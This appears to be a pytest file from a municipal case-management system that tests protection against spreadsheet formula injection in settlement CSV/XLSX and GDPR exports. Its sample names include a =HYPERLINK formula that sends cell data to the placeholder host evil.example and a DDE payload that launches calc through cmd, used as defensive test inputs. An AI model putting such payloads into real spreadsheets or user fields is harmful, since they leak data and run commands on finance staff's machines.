"""Issue 14, point 3: formula injection. A citizen's name, an offer's or a provider's name is
typed by someone; in the settlement's CSV and XLSX it must reach the finance officer's
spreadsheet as text, never as a formula (OWASP, "CSV Injection"). Fictitious people only."""

import csv
import io
import re
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from bb103.cases import services
from bb103.cases.export_cells import safe_text, safe_value, xlsx_append
from bb103.cases.models import Citizen, Offer, Provider
from bb103.cases.selectors.settlement import settlement_page_of
from bb103.cases.settlement_export import csv_bytes, xlsx_bytes
from tests.cases.settlement_world import attend, hourly_wage, placement_for, weekdays_of

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&D2&E2,"Klik her")'
# One name per character a spreadsheet reads as the start of a formula.
NAMES = [HYPERLINK, "+45+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
# The settlement line joins first and last name and trims the ends, so a leading tab or
# carriage return in the first name is gone before the export; the offer's name keeps one.
EXPORTED_NAMES = {"'" + name.strip() for name in NAMES}
SEPTEMBER = date(2025, 9, 1)


@pytest.mark.parametrize("text", NAMES)
def test_point_3_text_starting_like_a_formula_gets_a_quote(text):
    assert safe_text(text) == "'" + text


def test_point_3_ordinary_text_and_numbers_are_left_alone():
    """A negative amount is a number, not text: it stays a number finance can add up."""
    assert safe_text("Anne Hansen") == "Anne Hansen"
    assert safe_text("Ærø-Jensen") == "Ærø-Jensen"
    assert safe_value(Decimal("-12.50")) == Decimal("-12.50")
    assert safe_value(-3) == -3
    assert safe_value(None) is None


def test_point_3_xlsx_cells_are_strings_and_numbers_numbers():
    book = Workbook()
    sheet = book.active
    xlsx_append(sheet, ["=1+1", Decimal("-12.50"), 7, None, "tekst"])
    types = [sheet.cell(row=1, column=c).data_type for c in range(1, 6)]
    assert types == ["s", "n", "n", "n", "s"]


@pytest.fixture
def poisoned_month(db, ballerup, citizen_of):
    """September 2025 in Ballerup with one placement per name in ``NAMES``, at a provider
    and an offer whose names are formulas too."""
    Provider.objects.filter(pk=ballerup.offer.provider_id).update(name="@SUM(A1:A9)")
    Offer.objects.filter(pk=ballerup.offer.pk).update(name="\t-1+1")
    days = weekdays_of(date(2025, 9, 1), date(2025, 9, 30))[:3]
    for name in NAMES:
        placement = placement_for(ballerup, citizen_of)
        Citizen.objects.filter(pk=placement.case.citizen_id).update(first_name=name, last_name="")
        attend(placement, ballerup.caseworker, days)
        hourly_wage(placement, ballerup.caseworker, "20.00")
    services.settlement_run(
        user=ballerup.caseworker, municipality=ballerup.municipality, month=SEPTEMBER
    )
    return settlement_page_of(ballerup.municipality, SEPTEMBER)


@pytest.mark.django_db
def test_point_3_settlement_csv_holds_no_formula(poisoned_month):
    rows = list(
        csv.reader(io.StringIO(csv_bytes(poisoned_month).decode("utf-8-sig")), delimiter=";")
    )
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            # Only a negative amount may start with a minus: a number, not a formula.
            assert re.fullmatch(r"-\d+(,\d+)?", cell), cell
    assert {row[1] for row in rows[1:-1]} == EXPORTED_NAMES
    assert {row[2] for row in rows[1:-1]} == {"'@SUM(A1:A9)"}
    assert {row[3] for row in rows[1:-1]} == {"'\t-1+1"}


@pytest.mark.django_db
def test_point_3_settlement_xlsx_holds_no_formula(poisoned_month):
    raw = xlsx_bytes(poisoned_month)
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = load_workbook(io.BytesIO(raw))
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    assert {*EXPORTED_NAMES, "'@SUM(A1:A9)", "'\t-1+1"} <= texts
    # The amounts are still numbers.
    sheet = book["Afregning"]
    gross = [c.value for c in sheet[1]].index("Bruttoløn") + 1
    assert isinstance(sheet.cell(row=2, column=gross).value, int | float)


@pytest.mark.django_db
def test_point_3_gdpr_export_holds_the_name_as_text_and_no_spreadsheet(ballerup, citizen_of):
    """The access request is HTML, JSON and the letters' PDFs, none of which a spreadsheet
    runs: the JSON holds the name exactly as registered (it is the citizen's own data and
    must be a true copy), and the HTML shows it escaped, as text."""
    placement = placement_for(ballerup, citizen_of)
    citizen = placement.case.citizen
    Citizen.objects.filter(pk=citizen.pk).update(first_name=HYPERLINK)
    export = services.gdpr_export(user=ballerup.caseworker, citizen_id=citizen.pk)
    with zipfile.ZipFile(io.BytesIO(export.content)) as archive:
        names = archive.namelist()
        assert not [n for n in names if n.endswith((".csv", ".xlsx", ".xls", ".ods"))]
        summary = archive.read("oversigt.html").decode("utf-8")
        data = archive.read("data.json").decode("utf-8")
    assert HYPERLINK not in summary
    assert "=HYPERLINK(&quot;http://evil.example/" in summary
    assert '"first_name": "=HYPERLINK(\\"http://evil.example/' in data


SRC = Path(__file__).resolve().parents[2] / "src" / "bb103"
# The population runs write fictitious persons' ids and codes, byte for byte as
# docs/contract/population.md fixes them; no person's name or typed text is in them.
NOT_PERSONAL = {"population/report.py", "population/io.py"}


def test_point_3_every_spreadsheet_writer_uses_the_neutraliser():
    """Anything later: a module that writes CSV or XLSX must write its cells through
    ``bb103.cases.export_cells``."""
    writers = re.compile(r"\bcsv\.writer\(|DictWriter\(|Workbook\(|\.write_csv\(")
    offenders = []
    for path in SRC.rglob("*.py"):
        rel = path.relative_to(SRC).as_posix()
        text = path.read_text(encoding="utf-8")
        if rel in NOT_PERSONAL or rel == "cases/export_cells.py" or not writers.search(text):
            continue
        if "bb103.cases.export_cells" not in text:
            offenders.append(rel)
    assert offenders == []
